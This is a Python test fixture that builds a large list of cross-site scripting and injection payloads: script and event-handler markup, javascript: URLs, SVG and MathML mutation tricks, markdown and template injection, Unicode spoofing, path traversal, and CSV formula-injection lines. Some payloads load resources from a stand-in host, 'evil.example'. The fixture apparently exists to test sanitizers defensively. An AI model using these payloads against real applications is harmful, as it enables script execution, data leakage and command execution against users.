"""What an attacker would write where text is expected: markup that runs or loads, addresses that are followed, letters that reorder.

`{trap}` is the address of a server that must never be asked; whatever runs sets `window.__hit`.
"""

from __future__ import annotations

_RUN = "window.__hit=1"
_TEMPLATES = """\
<script>{run}</script>
<SCRIPT>{run}</SCRIPT>
<script src=//{trap}/a.js></script>
<script src="http://{trap}/a.js" async></script>
<script type=module>import "http://{trap}/m.js"</script>
<scr<script>ipt>{run}</scr</script>ipt>
<script\x0c>{run}</script>
<script/x>{run}</script>
</script><script>{run}</script>
<!--><script>{run}</script-->
<![CDATA[<script>{run}</script>]]>
<noscript><p title="</noscript><script>{run}</script>">
<template><script>{run}</script></template>
<img src=x onerror={run}>
<img src=x onerror="{run}">
<img src=x onerror='{run}'>
<img/src=x/onerror={run}>
<IMG SRC=x ONERROR={run}>
<img src="http://{trap}/i.png">
<img srcset="http://{trap}/i.png 1x">
<img src=x:x onerror=eval(atob('d2luZG93Ll9faGl0PTE='))>
<img src=`x`onerror={run}>
"><img src=x onerror={run}>
'><img src=x onerror={run}>
`><img src=x onerror={run}>
--><img src=x onerror={run}>
]]><img src=x onerror={run}>
</p></section><img src=x onerror={run}>
</title><img src=x onerror={run}>
</textarea><img src=x onerror={run}>
</style><img src=x onerror={run}>
</dialog></div><img src=x onerror={run}>
" autofocus onfocus={run} x="
' autofocus onfocus={run} x='
" onmouseover="{run}" x="
" onpointerenter="{run}" style="position:fixed;inset:0" x="
" data-open="1" onclick="{run}
" style="background:url(http://{trap}/b.png)" x="
<body onload={run}>
<body onpageshow={run}>
<input autofocus onfocus={run}>
<select autofocus onfocus={run}></select>
<textarea autofocus onfocus={run}></textarea>
<details open ontoggle={run}>x</details>
<dialog open onclose={run}>x</dialog>
<video src=x onerror={run}></video>
<video poster=http://{trap}/p.png></video>
<video><source onerror={run}></video>
<audio src=x onerror={run}></audio>
<audio src=http://{trap}/a.mp3 autoplay></audio>
<marquee onstart={run}>x</marquee>
<div onanimationstart={run} style="animation:pulse 1s">x</div>
<p ontransitionend={run}>x</p>
<a onclick={run} href=#>x</a>
<button onclick={run}>x</button>
<button popovertarget=x onbeforetoggle={run}>x</button><p popover id=x>
<a href="javascript:{run}">x</a>
<a href="JaVaScRiPt:{run}">x</a>
<a href="java&#x09;script:{run}">x</a>
<a href="&#106;avascript:{run}">x</a>
<a href="data:text/html,<script>{run}</script>">x</a>
<a href="vbscript:{run}">x</a>
<a href=http://{trap}/ ping=http://{trap}/ping>x</a>
<area href="javascript:{run}">
<base href=http://{trap}/>
<link rel=stylesheet href=http://{trap}/c.css>
<link rel=preload as=image href=http://{trap}/l.png>
<link rel=dns-prefetch href=//{trap}>
<link rel=prefetch href=http://{trap}/f>
<link rel=icon href=http://{trap}/i.ico>
<meta http-equiv=refresh content="0;url=http://{trap}/">
<meta http-equiv=refresh content="0;url=javascript:{run}">
<meta http-equiv=Content-Security-Policy content="script-src *">
<style>@import url(http://{trap}/s.css);</style>
<style>*{{background:url(http://{trap}/s.png)}}</style>
<style>@font-face{{font-family:x;src:url(http://{trap}/f.woff)}}*{{font-family:x}}</style>
<style>#send{{display:none}}</style>
<div style="position:fixed;inset:0;background:red">x</div>
<div style="background-image:url(http://{trap}/d.png)">x</div>
<div style="list-style:url(http://{trap}/d.png)">x</div>
<iframe src="javascript:parent.{run}"></iframe>
<iframe srcdoc="<script>parent.{run}</script>"></iframe>
<iframe src=http://{trap}/frame></iframe>
<frameset onload={run}>
<object data="javascript:{run}"></object>
<object data=http://{trap}/o></object>
<embed src="javascript:{run}">
<embed src=http://{trap}/e>
<applet code=x onerror={run}></applet>
<portal src=http://{trap}/></portal>
<svg onload={run}>
<svg/onload={run}>
<svg><script>{run}</script></svg>
<svg><script href="data:text/javascript,{run}"/></svg>
<svg><a xlink:href="javascript:{run}"><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values="javascript:{run}"/><text y=20>x</text></a></svg>
<svg><animate onbegin={run} attributeName=x dur=1s>
<svg><set onbegin={run} attributeName=x to=y>
<svg><image href=http://{trap}/v.png></svg>
<svg><use href="http://{trap}/u.svg#x"/></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>{run}</script></svg>#x"/></svg>
<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>
<svg><style><img src=x onerror={run}></style></svg>
<svg><desc><![CDATA[</desc><script>{run}</script>]]></svg>
<svg><title><img src=x onerror={run}></title></svg>
<svg><feImage href=http://{trap}/fe.png /></svg>
<svg></p><style><a id="</style><img src=1 onerror={run}>">
<math><mi xlink:href="javascript:{run}">x</mi></math>
<math href="javascript:{run}">x</math>
<math><mtext><img src=x onerror={run}></mtext></math>
<math><mtext></mtext><mglyph><style><img src=x onerror={run}></style></mglyph></math>
<math><annotation-xml encoding="text/html"><img src=x onerror={run}></annotation-xml></math>
<math><maction actiontype="statusline#http://{trap}/" xlink:href="javascript:{run}">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">
<form action=http://{trap}/f><button autofocus>x</button></form>
<form><button formaction="javascript:{run}">x</button></form>
<form id=f action=http://{trap}/f></form><input form=f type=image src=http://{trap}/t.png>
<isindex type=image src=1 onerror={run}>
<keygen autofocus onfocus={run}>
<form><input name=innerHTML><input name=attributes></form>
<a id=trustCoach></a><a id=trustCoach name=listen href="javascript:{run}"></a>
<img name=gradio_config><form id=gradio_config>
<custom-element onconnected={run}></custom-element>
<gradio-app src=http://{trap}></gradio-app>
<slot onslotchange={run}></slot>
[x](javascript:{run})
[x](http://{trap}/link)
![x](http://{trap}/md.png)
![x](x "onerror={run}")
![x][1]

[1]: http://{trap}/ref.png
<http://{trap}/auto>
http://{trap}/bare
www.{trap}/bare
[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==)
[<img src=x onerror={run}>](x)
[1](javascript:{run}) [2](http://{trap}/two)
[1]: javascript:{run}
`<img src=x onerror={run}>`
```html
<img src=x onerror={run}>
```
| <img src=x onerror={run}> | x |
# <img src=x onerror={run}>
> <script>{run}</script>
~~<img src=x onerror={run}>~~
$$\\href{{javascript:{run}}}{{x}}$$
${{{run}}}
`${{{run}}}`
{{{{{run}}}}}
{{{{constructor.constructor('{run}')()}}}}
{{{{#with this}}}}{{{{lookup constructor 'x'}}}}{{{{/with}}}}
{{%raw%}}<script>{run}</script>
#{{{run}}}
<%= {run} %>
\\u003cscript\\u003e{run}\\u003c/script\\u003e
\\x3cimg src=x onerror={run}\\x3e
&lt;script&gt;{run}&lt;/script&gt;
&#60;img src=x onerror={run}&#62;
&amp;lt;img src=x onerror={run}&amp;gt;
%3Cscript%3E{run}%3C/script%3E
＜script＞{run}＜/script＞
‹script›{run}‹/script›
<ſcript>{run}</ſcript>
<img src=x one\u200brror={run}>
\u202egnp.exe\u202c report.pdf
\u2066abc\u2067def\u2069\u2069
\u202d\u202e{run}\u202c
invoice\u202excod.js
\u200bscr\u200cipt\u200d\ufeff
a\u00adb\u2060c\u180ed
\u061cright\u200eto\u200fleft
שלום <b onmouseover={run}>עולם</b>
مرحبا" onfocus={run} autofocus x="
\U000e0001\U000e0061\U000e0062 tags
../../../etc/passwd
..\\..\\windows\\win.ini
report.pdf"; filename="x.html
=HYPERLINK("http://{trap}/h","x")
+cmd|' /C calc'!A0
-2+3+cmd|x
@SUM(1+1)*cmd
"""


def payloads(trap: str = "evil.example") -> list[str]:
    """The payloads against a trap at the host and port."""
    lines = [template.format(run=_RUN, trap=trap) for template in _TEMPLATES.split("\n") if template]
    return list(dict.fromkeys(lines))


PAYLOADS = payloads()
